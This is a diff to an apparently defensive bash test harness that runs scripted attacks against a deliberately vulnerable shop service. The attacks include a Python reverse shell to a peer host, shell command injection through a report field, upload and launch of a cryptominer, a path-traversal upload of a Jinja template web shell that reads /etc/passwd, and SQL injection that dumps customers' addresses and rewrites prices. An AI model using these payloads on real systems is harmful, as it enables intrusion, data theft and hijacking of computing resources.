@@ -151,6 +151,12 @@ as_seller() {
 	fetch "$@" -f -b "session=$seller_token"
 }
 
+# seller_begin: as_seller() has a valid session from here on, in subshells too.
+seller_begin() {
+	[ -n "$seller_token" ] && fetch /basket -f -o /dev/null -b "session=$seller_token" ||
+		seller_token=$(shop_login "seller$(between 1 3)")
+}
+
 request() {
 	local n
 	n=$(between 1 120)
@@ -184,11 +190,12 @@ customer_orders() {
 seller_works() {
 	local n
 	n=$(between 1 120)
+	seller_begin
 	case $((RANDOM % 4)) in
 	0) as_seller /restock -d "product=$n" -d "count=$(between 10 200)" ;;
 	1) as_seller /price -d "product=$n" -d "price=$(between 1 40).50" ;;
 	2) client_stdin head -c "$((n * 500))" /dev/urandom |
-		fetch_stdin /upload -b "session=$(seller_session)" -F "product=$n" -F "name=$((1 + n % 12)).png" -F 'picture=@-' ;;
+		fetch_stdin /upload -b "session=$seller_token" -F "product=$n" -F "name=$((1 + n % 12)).png" -F 'picture=@-' ;;
 	3)
 		report_reference=$(as_seller /report -d "product=$(pick tea coffee honey) $n" | jq -r .report)
 		sleep 1
@@ -316,7 +323,7 @@ render() {
 	local reference
 	as_customer /basket -d product=1 >/dev/null
 	reference=$(as_customer /order --data-urlencode "note={{ $1 }}" | jq -r .reference)
-	sleep 2
+	until_true 20 fetch "/order/$reference" -f -o /dev/null -b "session=$shop_token"
 	as_customer "/receipt/$reference"
 }
 
@@ -329,9 +336,9 @@ python() {
 # worker_shell COMMAND: the shell of the report runs it; prints what it wrote.
 worker_shell() {
 	local reference
+	seller_begin
 	reference=$(as_seller /report --data-urlencode "product=x /dev/null; $1; echo done; true " | jq -r .report)
-	sleep 2
-	as_seller "/report/$reference"
+	until_true 20 fetch "/report/$reference" -f -b "session=$seller_token"
 }
 
 # A command in the product of a report.
@@ -400,7 +407,7 @@ attack_reverse_shell() {
 	python "import socket, subprocess
 s = socket.create_connection(('$peer_address', 4444))
 subprocess.Popen(['/bin/sh'], stdin=s, stdout=s, stderr=s)" >/dev/null
-	thief_got uid=33
+	thief_got uid=33 || return 1
 	peer_stop thief
 }
 
@@ -410,8 +417,8 @@ attack_miner() {
 	harm connect "$peer_address:3333"
 	pool_begin
 	fetch_stdin /upload -b "session=$(seller_session)" -F product=1 -F name=m.png -F 'picture=@-' <"$miner"
-	worker_shell "chmod 755 /var/lib/shop/pictures/m.png; /var/lib/shop/pictures/m.png $peer_address 3333 3 &" >/dev/null
-	pool_got
+	worker_shell "chmod 755 /var/lib/shop/pictures/m.png; /var/lib/shop/pictures/m.png $peer_address 3333 3 >/dev/null 2>&1 & true" >/dev/null
+	pool_got || return 1
 	sleep 4
 	peer_stop pool
 }
@@ -422,7 +429,7 @@ attack_web_shell() {
 	harm exec /usr/bin/dash
 	echo "{{ cycler.__init__.__globals__.os.popen(request.args.get('c', 'true')).read() }} @NOTE@" |
 		fetch_stdin /upload -b "session=$(seller_session)" -F product=1 -F name=../receipts/receipt.html -F 'picture=@-'
-	customer_orders >/dev/null
+	orders_exist >/dev/null
 	as_customer "/receipt/$shop_reference?c=id" | grep uid=33
 	as_customer "/receipt/$shop_reference?c=cat+/etc/passwd" | grep root
 }
@@ -451,11 +458,19 @@ attack_code_shell() {
 
 # ---- attacks of known calls, files and peers only ----
 
+# orders_exist: three orders more are in the database.
+orders_exist() {
+	for _ in 1 2 3; do
+		customer_orders
+	done
+	until_true 20 fetch "/order/$shop_reference" -f -o /dev/null -b "session=$shop_token"
+}
+
 # A customer reads the orders of all others, page by page.
 adaptive_order_export() {
 	local i
 	harm call sendto
-	customer_orders >/dev/null
+	orders_exist >/dev/null
 	for ((i = 1; i <= shop_reference; i++)); do
 		as_customer "/order/$i"
 	done | grep -c 'High Street'
@@ -464,6 +479,7 @@ adaptive_order_export() {
 # The orders again, as the answer to one search, by the service's own connection.
 adaptive_search_export() {
 	harm call sendto
+	orders_exist >/dev/null
 	search "UNION SELECT o.reference, u.name || ' ' || u.address || ' ' || o.note, o.total, 0 FROM orders o JOIN users u ON u.id = o.customer" |
 		grep 'High Street'
 }
@@ -472,7 +488,7 @@ adaptive_search_export() {
 adaptive_price_tampering() {
 	harm call sendto
 	search "; UPDATE products SET price = 0.01; SELECT 1, 'x', 2, 3"
-	customer_orders | grep ' 0.01'
+	orders_exist | grep ' 0.01'
 }
 
 # A seller's session, taken by a customer from the cache, orders stock away.
